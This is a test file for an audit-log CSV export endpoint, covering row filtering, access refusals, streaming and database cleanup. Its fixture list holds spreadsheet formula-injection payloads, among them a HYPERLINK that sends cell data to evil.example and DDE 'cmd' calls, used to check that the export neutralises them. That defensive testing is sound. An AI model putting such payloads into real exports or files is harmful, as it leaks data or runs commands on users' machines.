import { afterEach, beforeAll, describe, expect, it } from "vitest"
import db, { engine, type Prisma } from "db"
import { GET } from "app/admin/audit/export/route"
import { CSV_COLUMNS, auditCsvStream } from "app/audit/export"
import { recordAuditEvent, type AuditEntry } from "app/audit/log"
import { TestBrowser } from "test/helpers/browser"
import { csvObjects } from "test/helpers/csv"
import { PASSWORD, createOrganization, createUser } from "test/helpers/fixtures"

/**
 * "Download CSV" (GET /admin/audit/export): the real route handler with real Blitz sessions,
 * exactly the filtered rows, formula cells neutralized, refusals, and a stream that delivers
 * rows while the database is still being read.
 */

const HEADER = [
  "id",
  "at",
  "action",
  "admin_id",
  "admin_email",
  "user_id",
  "user_email",
  "organization_id",
  "organization",
  "impersonation_id",
  "reason",
  "ticket_url",
  "end_reason",
  "refusal_code",
  "ip",
  "user_agent",
]

const HOSTILE_REASONS = [
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  "+1+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\uFF1DHYPERLINK(1)", // a full-width equals sign, which spreadsheets also read as a formula
  'A reason with "quotes", commas\nand a line break',
]

let org: { id: number; name: string }
let otherOrg: { id: number; name: string }
let superadmin: { id: number; email: string }
let owner: { id: number; email: string }
let member: { id: number; email: string }
let plain: { id: number; email: string }
let bulkActor: { id: number; email: string }
const browsers: Record<string, TestBrowser> = {}

async function record(entries: Array<Omit<AuditEntry, "impersonationId">>) {
  await db.$transaction(
    async (tx) => {
      for (const entry of entries) await recordAuditEvent(tx, { impersonationId: null, ...entry })
    },
    { timeout: 120_000 },
  )
}

function exportRequest(query: string, browser?: TestBrowser) {
  const headers = new Headers()
  if (browser) headers.set("cookie", browser.cookieHeader())
  return GET(new Request(`http://localhost/admin/audit/export${query}`, { headers }))
}

async function expectedIds(where: Prisma.AuditEventWhereInput) {
  const rows = await db.auditEvent.findMany({
    where,
    orderBy: { id: "desc" },
    select: { id: true },
  })
  return rows.map((row) => String(row.id))
}

/** Backends of the PostgreSQL export's own connection (none on the embedded engine). */
async function exportBackends() {
  if (engine.kind !== "postgres") return []
  return db.$queryRaw<Array<{ state: string; query: string }>>`
    SELECT state, query FROM pg_stat_activity WHERE application_name = 'audit-csv-export'`
}

beforeAll(async () => {
  org = await createOrganization("export-org")
  otherOrg = await createOrganization("export-other")
  superadmin = await createUser({ label: "export-superadmin", role: "SUPERADMIN" })
  owner = await createUser({ label: "export-owner", organization: { id: org.id, role: "OWNER" } })
  member = await createUser({
    label: "export-member",
    organization: { id: org.id, role: "MEMBER" },
  })
  plain = await createUser({ label: "export-plain" })
  bulkActor = await createUser({ label: "export-bulk", role: "SUPPORT" })
  const inOrg = (reason: string, action: AuditEntry["action"] = "IMPERSONATION_STARTED") => ({
    action,
    actorId: owner.id,
    subjectId: member.id,
    organizationId: org.id,
    details: { reason, ticketUrl: "https://support.example.com/tickets/1" },
  })
  await record([
    ...HOSTILE_REASONS.map((reason) => inOrg(reason)),
    inOrg("Ordinary reason", "IMPERSONATION_ENDED"),
    { ...inOrg("Elsewhere"), organizationId: otherOrg.id },
    { ...inOrg("Platform"), organizationId: null },
  ])
  // 1,200 events of one admin: more than one export batch, for the streaming tests.
  await record(
    Array.from({ length: 1200 }, (_, i) => ({
      action: "SIGNED_IN" as const,
      actorId: bulkActor.id,
      subjectId: bulkActor.id,
      organizationId: null,
      details: { method: "PASSWORD", n: i },
    })),
  )
  for (const [name, user] of Object.entries({ superadmin, owner, plain })) {
    browsers[name] = new TestBrowser()
    await browsers[name].login(user.email, PASSWORD)
  }
})

afterEach(async () => {
  // No export may leave its connection (and transaction) behind.
  await expect.poll(exportBackends, { timeout: 5000 }).toEqual([])
})

describe("Download CSV", () => {
  it("streams exactly the filtered rows, all pages, with a header", async () => {
    const response = await exportRequest(
      `?organization=${encodeURIComponent(org.name)}&action=IMPERSONATION_STARTED`,
      browsers.superadmin,
    )
    expect(response.status).toBe(200)
    expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8")
    expect(response.headers.get("content-disposition")).toMatch(
      /^attachment; filename="audit-events-\d{4}-\d{2}-\d{2}\.csv"$/,
    )
    const { header, rows } = csvObjects(await response.text())
    expect(header).toEqual(HEADER)
    expect(CSV_COLUMNS.map(([name]) => name)).toEqual(HEADER)
    expect(rows.map((row) => row.id)).toEqual(
      await expectedIds({ organizationId: org.id, action: "IMPERSONATION_STARTED" }),
    )
    expect(rows).toHaveLength(HOSTILE_REASONS.length)
    const first = rows.at(-1)!
    expect(first).toMatchObject({
      action: "IMPERSONATION_STARTED",
      admin_id: String(owner.id),
      admin_email: owner.email,
      user_email: member.email,
      organization: org.name,
      ticket_url: "https://support.example.com/tickets/1",
    })
    expect(new Date(first.at!).toISOString()).toBe(first.at)
  })

  it("neutralizes spreadsheet formulas and keeps quotes, commas and line breaks", async () => {
    const response = await exportRequest(
      `?organization=${org.id}&action=IMPERSONATION_STARTED`,
      browsers.superadmin,
    )
    const { rows } = csvObjects(await response.text())
    const reasons = rows.map((row) => row.reason).reverse()
    expect(reasons).toEqual([
      `'=HYPERLINK("http://evil.example/?"&A1,"Click")`,
      "'+1+cmd|' /C calc'!A0",
      "'-2+3",
      "'@SUM(1+1)*cmd|' /C calc'!A0",
      "'\t=1+1",
      "'\uFF1DHYPERLINK(1)",
      'A reason with "quotes", commas\nand a line break',
    ])
    for (const row of rows)
      expect(Object.values(row).every((cell) => !/^[=+\-@]/.test(cell))).toBe(true)
  })

  it("gives an organization admin their organization's rows only", async () => {
    const response = await exportRequest("", browsers.owner)
    expect(response.status).toBe(200)
    const { rows } = csvObjects(await response.text())
    expect(rows.map((row) => row.id)).toEqual(await expectedIds({ organizationId: org.id }))
    expect(new Set(rows.map((row) => row.organization))).toEqual(new Set([org.name]))
  })

  it("gives a header and no rows when nothing matches", async () => {
    const response = await exportRequest(
      "?admin=nobody-here%40fixture.example",
      browsers.superadmin,
    )
    expect(response.status).toBe(200)
    expect(await response.text()).toBe(`${HEADER.join(",")}\n`)
  })

  it("exports more than one batch, every row once", async () => {
    const response = await exportRequest(`?admin=${bulkActor.id}`, browsers.superadmin)
    const { rows } = csvObjects(await response.text())
    expect(rows).toHaveLength(1200)
    expect(rows.map((row) => row.id)).toEqual(await expectedIds({ actorId: bulkActor.id }))
  })
})

describe("refusals", () => {
  it("401 without a session", async () => {
    const response = await exportRequest("")
    expect(response.status).toBe(401)
    expect(await response.text()).toMatch(/Sign in/)
  })

  it("403 for a user without the admin console", async () => {
    const response = await exportRequest("", browsers.plain)
    expect(response.status).toBe(403)
    expect(await response.text()).toMatch(/You do not have access to the admin console/)
  })

  it("403 for an organization admin asking for another organization", async () => {
    const response = await exportRequest(`?organization=${otherOrg.id}`, browsers.owner)
    expect(response.status).toBe(403)
    expect(await response.text()).toMatch(/organizations you administer/)
  })

  it("400 with the reason for a bad filter", async () => {
    const response = await exportRequest("?action=EVERYTHING&from=2026-13-01", browsers.superadmin)
    expect(response.status).toBe(400)
    const text = await response.text()
    expect(text).toMatch(/Action: choose one of the listed actions/)
    expect(text).toMatch(/From: not a calendar date/)
  })

  it("403 while impersonating, and the admin's own session works again after Stop", async () => {
    const admin = new TestBrowser()
    await admin.login(superadmin.email, PASSWORD)
    const started = await admin.rpc("impersonateUser", { userId: plain.id, reason: "Export check" })
    expect(started.error).toBeNull()
    const response = await exportRequest("", admin)
    expect(response.status).toBe(403)
    expect(await response.text()).toMatch(/not available while impersonating/)
    expect((await admin.rpc("stopImpersonating", {})).error).toBeNull()
    expect((await exportRequest(`?admin=${bulkActor.id}&to=2000-01-01`, admin)).status).toBe(200)
  })
})

describe("streaming", () => {
  it("delivers the first rows while later batches are still unread in the database", async () => {
    const batches: number[] = []
    const stream = auditCsvStream(
      { actorId: bulkActor.id },
      { wholePlatform: true },
      {
        batchSize: 100,
        onBatch: (rows) => batches.push(rows),
      },
    )
    const reader = stream.getReader()
    const first = await reader.read()
    const text = new TextDecoder().decode(first.value)
    const { header, rows } = csvObjects(text)
    expect(header).toEqual(HEADER)
    expect(rows).toHaveLength(100)
    expect(batches).toEqual([100]) // one read from the database; 11 batches still there
    if (engine.kind === "postgres") {
      // The server-side cursor is open, its transaction waiting for the next FETCH.
      expect(await exportBackends()).toEqual([
        { state: "idle in transaction", query: "FETCH 100 FROM audit_export" },
      ])
    }
    let total = rows.length
    for (;;) {
      const next = await reader.read()
      if (next.done) break
      total += csvObjects(`${HEADER.join(",")}\n${new TextDecoder().decode(next.value)}`).rows
        .length
    }
    expect(total).toBe(1200)
    // Twelve full batches, then (on PostgreSQL) one more FETCH finds the cursor's end.
    expect(batches.filter((rows) => rows > 0)).toEqual(Array(12).fill(100))
  })

  it("lets go of the database when the download is cancelled", async () => {
    const response = await exportRequest(`?admin=${bulkActor.id}`, browsers.superadmin)
    const reader = response.body!.getReader()
    const first = await reader.read()
    expect(first.done).toBe(false)
    if (engine.kind === "postgres") expect(await exportBackends()).toHaveLength(1)
    await reader.cancel()
    // afterEach: the export's connection is gone.
  })
})
